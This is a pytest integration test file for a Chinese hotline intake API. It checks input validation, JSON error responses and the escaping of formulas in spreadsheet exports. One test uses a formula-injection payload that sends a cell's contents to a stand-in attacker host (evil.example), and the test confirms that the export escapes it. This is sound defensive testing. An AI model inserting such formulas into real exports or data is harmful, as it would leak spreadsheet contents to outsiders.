"""What testers sent the API: out-of-range dates and numbers, control characters, formulas, a database
that went away, a bug. Every answer is JSON with a Chinese message, never a bare 500."""

from __future__ import annotations

import csv
import io
import logging
import uuid
from typing import Any

import pytest
from fastapi.testclient import TestClient
from httpx import Response
from sqlalchemy import update

from hotline.services.intake.errors import DATABASE_DOWN, INTERNAL, RETRY_AFTER_S
from hotline.shared.db import CaseRow, create_engine, session_factory, transaction
from tests.intake.test_api import CALL, anonymous, client  # noqa: F401  (fixtures)

pytestmark = pytest.mark.integration
MENTION = {"url": "https://weibo.com/1", "platform": "weibo", "outlet": "微博", "content": "路灯坏了"}


def _chinese_error(response: Response, status: int) -> dict[str, Any]:
    assert response.status_code == status, (response.status_code, response.text)
    assert response.headers["content-type"].startswith("application/json")
    body: dict[str, Any] = response.json()
    assert any("\u4e00" <= ch <= "\u9fff" for ch in body["message"]), body
    return body


@pytest.mark.parametrize(
    ("method", "url", "body", "field"),
    [
        ("POST", "/api/v1/calls", {**CALL, "received_at": "0001-01-01T00:00:00+08:00"}, "received_at"),
        ("POST", "/api/v1/calls", {**CALL, "received_at": "9999-12-31T23:59:59-08:00"}, "received_at"),
        ("POST", "/api/v1/calls", {**CALL, "received_at": "1999-12-31T08:00:00+08:00"}, "received_at"),
        ("POST", "/api/v1/mentions", {**MENTION, "published_at": "0001-01-01T00:00:00Z"}, "published_at"),
        ("POST", "/api/v1/mentions", {**MENTION, "published_at": "2026-01-01", "reach": 10**20}, "reach"),
        ("GET", f"/api/v1/cases?offset={10**19}", None, "offset"),
        ("GET", "/api/v1/stats?from=0001-01-01", None, "from"),
        ("GET", "/api/v1/stats?to=9999-12-31", None, "to"),
        ("GET", "/api/v1/stats?from=2026-12-01&to=2026-11-01", None, "from"),
        ("GET", "/api/v1/reports/period?from=0001-01-01&to=9999-12-31", None, "from"),
        ("GET", "/api/v1/exports/cases.xlsx?to=9999-12-31", None, "to"),
        ("GET", "/api/v1/exports/stats.csv?from=0001-01-01", None, "from"),
        ("GET", f"/api/v1/feed?since={10**30}", None, "since"),
        ("POST", f"/api/v1/dead-letters/{10**20}/replay", None, "letter_id"),
    ],
)
def test_out_of_range_input_is_422_naming_the_field(
    client: TestClient,  # noqa: F811
    method: str,
    url: str,
    body: dict[str, Any] | None,
    field: str,
) -> None:
    response = client.request(method, url, json=body)
    detail = _chinese_error(response, 422)["detail"]
    assert any(item["field"].endswith(field) for item in detail), detail


def test_the_receipt_window_is_explained(client: TestClient) -> None:  # noqa: F811
    message = _chinese_error(client.post("/api/v1/calls", json={**CALL, "received_at": "1999-12-31T23:00:00Z"}), 422)
    assert "2000-01-01" in message["message"] and "录入错误" in message["message"]
    # Ten years back is a real backlog, and is taken.
    assert client.post("/api/v1/calls", json={**CALL, "received_at": "2016-03-01T09:00:00+08:00"}).status_code == 201


def test_control_characters_are_refused_by_name_or_dropped_from_free_text(client: TestClient) -> None:  # noqa: F811
    refused = _chinese_error(client.post("/api/v1/calls", json={**CALL, "caller_name": "林\u0000先生"}), 422)
    assert refused["detail"][0]["field"] == "caller_name" and "控制字符" in refused["message"]
    created = client.post("/api/v1/calls", json={**CALL, "content": "路灯\u0000坏了\u0007两个多月"})
    assert created.status_code == 201, created.text
    assert client.get(f"/api/v1/cases/{created.json()['id']}").json()["content"] == "路灯坏了两个多月"
    for url in ("/api/v1/cases?unit=%00", "/api/v1/lookup/AB%00CD", "/api/v1/cases/similar?text=%E8%B7%AF%00"):
        _chinese_error(client.get(url), 422)


def _store_nul(client: TestClient, case_id: str) -> None:  # noqa: F811
    """A case stored before input was checked (SQLite holds NUL; PostgreSQL never could)."""
    runtime = client.app.state.runtime  # type: ignore[attr-defined]

    async def write() -> None:
        async with transaction(runtime.sessions) as session:
            stored = update(CaseRow).where(CaseRow.id == uuid.UUID(case_id))
            await session.execute(stored.values(content="旧数据\x00含NUL", township="=1+1\x00"))

    if runtime.engine.dialect.name == "sqlite":
        client.portal.call(write)  # type: ignore[union-attr]


def test_exports_escape_formulas_and_survive_a_stored_nul(client: TestClient) -> None:  # noqa: F811
    from openpyxl import load_workbook

    formula = '=HYPERLINK("http://evil.example/?"&A1,"点击查看")'
    client.post("/api/v1/calls", json={**CALL, "content": formula, "township": "-2+3"})
    old = client.post("/api/v1/calls", json={**CALL, "phone": "13900000001", "content": "旧案件"}).json()
    _store_nul(client, old["id"])

    exported = client.get("/api/v1/exports/cases.csv")
    assert exported.status_code == 200
    rows = list(csv.reader(io.StringIO(exported.content.decode("utf-8-sig"))))
    cells = [cell for row in rows[1:] for cell in row]
    assert "'" + formula in cells and "'-2+3" in cells
    assert not any(cell.lstrip()[:1] in "=+-@" for cell in cells if cell), cells

    workbook = client.get("/api/v1/exports/cases.xlsx")
    assert workbook.status_code == 200, workbook.text
    values = [c for row in load_workbook(io.BytesIO(workbook.content)).active.iter_rows(values_only=True) for c in row]
    assert "'" + formula in values
    assert not any(isinstance(v, str) and "\x00" in v for v in values)
    for url in (
        "/api/v1/exports/stats.xlsx",
        "/api/v1/reports/period?format=xlsx",
        "/api/v1/reports/period?format=docx",
    ):
        assert client.get(url).status_code == 200, url


def test_a_database_that_went_away_is_503_json_with_retry_after(
    client: TestClient,  # noqa: F811
    tmp_path: Any,
) -> None:
    runtime = client.app.state.runtime  # type: ignore[attr-defined]
    broken = create_engine(f"sqlite+aiosqlite:///{tmp_path / 'gone' / 'hotline.db'}")  # its folder does not exist
    saved = runtime.sessions, runtime.read_sessions
    runtime.sessions = runtime.read_sessions = session_factory(broken)
    try:
        for method, url, body in (("GET", "/api/v1/cases", None), ("POST", "/api/v1/calls", CALL)):
            response = client.request(method, url, json=body)
            assert _chinese_error(response, 503)["message"] == DATABASE_DOWN
            assert response.headers["Retry-After"] == str(RETRY_AFTER_S)
    finally:
        runtime.sessions, runtime.read_sessions = saved
        client.portal.call(broken.dispose)  # type: ignore[union-attr]
    assert client.get("/api/v1/cases").status_code == 200  # back as soon as the database is


def test_a_service_this_request_needs_is_down_says_when_to_retry(client: TestClient) -> None:  # noqa: F811
    response = client.post("/api/v1/suggest", json={"text": "路灯坏了"})  # no classifier runs here
    _chinese_error(response, 503)
    assert response.headers["Retry-After"] == str(RETRY_AFTER_S)


def test_a_bug_is_500_json_logged_with_its_traceback(
    client: TestClient,  # noqa: F811
    caplog: pytest.LogCaptureFixture,
) -> None:
    async def broken() -> None:
        raise RuntimeError("a bug in a handler")

    client.app.add_api_route("/api/v1/test-broken", broken)  # type: ignore[attr-defined]
    with caplog.at_level(logging.ERROR, logger="hotline.services.intake.errors"):
        response = client.get("/api/v1/test-broken")  # TestClient re-raises anything that escaped the app
    assert _chinese_error(response, 500) == {"message": INTERNAL, "detail": INTERNAL}
    assert any(record.exc_info and "a bug in a handler" in str(record.exc_info[1]) for record in caplog.records)


def test_framework_errors_are_chinese_json_too(anonymous: TestClient) -> None:  # noqa: F811
    _chinese_error(anonymous.get("/api/v1/no-such-endpoint"), 404)
    _chinese_error(anonymous.delete("/api/v1/calls"), 405)
    unauthorised = _chinese_error(anonymous.get("/api/v1/cases"), 401)
    assert unauthorised["detail"] == unauthorised["message"]  # `detail` kept for older clients
